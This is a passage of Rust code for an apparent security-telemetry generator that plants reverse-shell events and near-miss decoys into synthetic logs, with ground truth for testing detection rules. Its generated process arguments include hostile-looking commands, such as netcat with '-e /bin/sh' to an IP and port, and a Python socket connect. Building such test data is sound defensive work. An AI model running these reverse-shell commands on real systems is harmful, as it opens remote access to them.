        let parent_args = vec![pname.to_string(), "-c".to_string(), "…".to_string()];
        let mut kind_name: String;
        let mut action = "exec";
        let mut net_action = if self.r.chance(0.8) {
            "connection_attempted"
        } else {
            "connection_accepted"
        };
        let mut dst = ip.clone();
        let mut t2 = t + gap;
        let mut other_entity = false;
        let mut other_host = false;
        let mut net_name: Option<&str> = None;
        let mut host_override: Option<usize> = None;
        let (name, exe, mut args, parent) = if tp {
            let (kind, name, exe, args) = shell_kind(j, &ip, port);
            kind_name = kind.to_string();
            if kind == "python-fork" {
                action = "fork";
            }
            (name, exe, args, (pname, pexe))
        } else {
            let variants = if self.cfg.os == OsMix::Mixed { 15 } else { 14 };
            let (_, name, exe, args) = shell_kind(j, &ip, port);
            let mut parent = (pname, pexe);
            let (name, exe, args) = match j % variants {
                0 => {
                    kind_name = "loopback".into();
                    dst = "127.0.0.1".into();
                    (name, exe, args)
                }
                1 => {
                    kind_name = "link-local".into();
                    dst = "169.254.169.254".into();
                    (name, exe, args)
                }
                2 => {
                    kind_name = "multicast".into();
                    dst = "224.0.0.251".into();
                    (name, exe, args)
                }
                3 => {
                    kind_name = "ipv6-loopback".into();
                    dst = "::1".into();
                    (name, exe, args)
                }
                4 => {
                    kind_name = "late".into();
                    t2 = t + 1_050_000_000 + self.r.below(2_000_000) as i64 * 1000;
                    (name, exe, args)
                }
                5 => {
                    kind_name = "other-entity".into();
                    other_entity = true;
                    (name, exe, args)
                }
                6 => {
                    kind_name = "other-host".into();
                    other_host = true;
                    (name, exe, args)
                }
                7 => {
                    kind_name = "nc-z".into();
                    let ps = port.to_string();
                    (
                        "nc",
                        "/usr/bin/nc.traditional",
                        vec![
                            "nc".into(),
                            "-z".into(),
                            "-e".into(),
                            "/bin/sh".into(),
                            ip.clone(),
                            ps,
                        ],
                    )
                }
                8 => {
                    kind_name = "parent-not-listed".into();
                    parent = *self.r.pick(&[
                        ("systemd", "/usr/lib/systemd/systemd"),
                        ("cron", "/usr/sbin/cron"),
                        ("sshd", "/usr/sbin/sshd"),
                        ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
                    ]);
                    (name, exe, args)
                }
                9 => {
                    kind_name = "gawk-net".into();
                    let (_, _, _, a) = shell_kind(6, &ip, port);
                    let mut a = a;
                    a[0] = "gawk".into();
                    net_name = Some("gawk");
                    ("gawk", "/usr/bin/gawk", a)
                }
                10 => {
                    kind_name = "telnet-two-args".into();
                    (
                        "telnet",
                        "/usr/bin/telnet",
                        vec!["telnet".into(), ip.clone()],
                    )
                }
                11 => {
                    kind_name = "disconnect".into();
                    net_action = "disconnect_received";
                    (name, exe, args)
                }
                12 => {
                    kind_name = "python-no-pty".into();
                    ("python3", "/usr/bin/python3.10", vec!["python3".into(), "-c".into(), format!("import socket;s=socket.socket();s.connect((\"{ip}\",{port}));s.send(b'ping')")])
                }
                13 => {
                    kind_name = "perl-no-socket".into();
                    (
                        "perl",
                        "/usr/bin/perl",
                        vec!["perl".into(), "-e".into(), "system(\"uptime\")".into()],
                    )
                }
                _ => {
                    kind_name = "macos-host".into();
                    let mac: Vec<usize> = (0..self.hosts.len())
                        .filter(|&i| self.hosts[i].os == Os::Macos)
                        .collect();
                    if let Some(&m) = mac.first() {
                        host_override = Some(m);
                    } else {
                        kind_name = "loopback".into();
                        dst = "127.0.0.1".into();
                    }
                    (name, exe, args)
                }
            };
            (name, exe, args, parent)
        };
        let h = host_override.unwrap_or(h);
        if args.is_empty() {
            args.push(name.to_string());
        }
        let parent_proc = {
            let mut pp = self.new_proc(h, parent.0, parent.1, parent_args, None, t - 3_000_000_000);
            pp.parent = None;
            pp
        };
        let p = self.new_proc(h, name, exe, args, Some(parent_proc), t);
        let (id1, l1) = self.process_event(h, &p, t, action);
        self.push_future(t, true, l1);
        let mut np = p.clone();
        if let Some(n) = net_name {
            np.name = n.to_string();
        }
        let mut h2 = h;
        if other_entity {
            np = self.new_proc(h, np.name.as_str(), exe, vec![], None, t2);
        }
        if other_host {
            h2 = (h + 1) % self.hosts.len();
            if h2 == h {
                // a single host: fall back to another entity
                np = self.new_proc(h, np.name.as_str(), exe, vec![], None, t2);
                kind_name = "other-entity".into();
            }
        }
        let (id2, l2) = self.network_event(h2, &np, t2, net_action, &dst, port);
        self.push_future(t2, true, l2);
        if let Some(tr) = self.truth.as_deref_mut() {
            tr.planted.push(Planted {
                kind: kind_name,
                alert: tp,
                host_id: self.hosts[h].id.clone(),
                entity_id: p.entity.clone(),
                event_ids: vec![id1, id2],
                times: vec![t, t2],
            });
        }
    }
}

/// Write a generated stream to `out` (and fill `truth`, if given).
pub fn generate<W: Write>(
    cfg: &GenConfig,
    out: &mut W,
    truth: Option<&mut Truth>,
) -> io::Result<()> {
    let scenarios = u64::from(cfg.shells) + u64::from(cfg.near_misses);
    let planted_events = 2 * scenarios;
    if cfg.events < planted_events {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!(
                "--events must be at least {planted_events} (2 per planted shell or near miss)"
            ),
        ));
    }
    let mut g = Gen::new(cfg.clone(), truth);
    let mut budget = cfg.events - planted_events;
    let mean_gap = (1e9 / cfg.rate.max(1e-3)).max(1000.0);
    let span = cfg.events as f64 * mean_gap;
    // planting order: interleave true positives and near misses
    let mut plan: Vec<(usize, bool)> = Vec::new();
    let (mut tp, mut nm) = (0usize, 0usize);
    for k in 0..scenarios {
        let want_tp = (tp as u64) * scenarios < (k + 1) * u64::from(cfg.shells);
        if want_tp && tp < cfg.shells as usize {
            plan.push((tp, true));
            tp += 1;
        } else {
            plan.push((nm, false));
            nm += 1;
        }
    }
    let mut next_plant = 0usize;
    let plant_time = |k: usize| -> i64 {
        let x = cfg.start_ns as f64 + (k as f64 + 0.5) / scenarios.max(1) as f64 * span;
        let x = x as i64;
        x - x % 1000
    };
    let mut t = cfg.start_ns;
    let mut w = io::BufWriter::with_capacity(1 << 20, out);
    loop {
        let t_next = if budget > 0 {
            let gap = -(1.0 - g.r.unit()).ln() * mean_gap;
            let n = t + gap as i64;
            n - n % 1000
        } else {
            i64::MAX
        };
        while next_plant < plan.len() && plant_time(next_plant) <= t_next {
            let (j, is_tp) = plan[next_plant];
            g.plant(j, is_tp, plant_time(next_plant));
            next_plant += 1;
        }
        while let Some(f) = g.heap.peek() {
            if f.neg_ts.0 .0 > t_next {
                break;
            }
            let f = g.heap.pop().expect("peeked");
            if f.planted {
                w.write_all(&f.line)?;
            } else if budget > 0 {
                budget -= 1;
                w.write_all(&f.line)?;
            }
        }
        if budget == 0 {
            if next_plant >= plan.len() && !g.heap.iter().any(|f| f.planted) {
                break;
            }
            if t_next == i64::MAX && g.heap.is_empty() && next_plant >= plan.len() {
                break;
            }
            continue;
        }
        t = t_next;
        let line = g.background(t);
        budget -= 1;
        w.write_all(&line)?;
    }
    w.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen(cfg: &GenConfig) -> (Vec<serde_json::Value>, Truth) {
        let mut out = Vec::new();
        let mut truth = Truth::default();
        generate(cfg, &mut out, Some(&mut truth)).unwrap();
        let docs = out
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .map(|l| serde_json::from_slice(l).unwrap())
            .collect();
        (docs, truth)
    }

    #[test]
    fn exact_count_order_and_determinism() {
        let cfg = GenConfig {
            events: 3000,
            shells: 13,
            near_misses: 15,
            hosts: 7,
            os: OsMix::Mixed,
            ..GenConfig::default()
        };
        let (docs, truth) = gen(&cfg);
        assert_eq!(docs.len(), 3000);
        let ts: Vec<i64> = docs
            .iter()
            .map(|d| eqlc_runtime::Event::timestamp(d).unwrap())
            .collect();
        assert!(ts.windows(2).all(|w| w[0] <= w[1]), "sorted");
        assert_eq!(truth.alerts().count(), 13);
        assert_eq!(truth.planted.len(), 28);
        let ids: std::collections::HashSet<&str> = docs
            .iter()
            .map(|d| d["event"]["id"].as_str().unwrap())
            .collect();
        assert_eq!(ids.len(), 3000, "unique event ids");
        for p in &truth.planted {
            for id in &p.event_ids {
                assert!(ids.contains(id.as_str()), "{id} of {} emitted", p.kind);
            }
        }
        let (docs2, truth2) = gen(&cfg);
        assert_eq!(docs, docs2);
        assert_eq!(truth, truth2);
        let size: usize = docs.iter().map(|d| d.to_string().len()).sum::<usize>() / docs.len();
        assert!((600..1600).contains(&size), "mean size {size}");
    }

    #[test]
    fn base64_matches_reference() {
        assert_eq!(base64(b"hello"), "aGVsbG8=");
        assert_eq!(base64(b"hi"), "aGk=");
        assert_eq!(base64(b"abc"), "YWJj");
    }
}
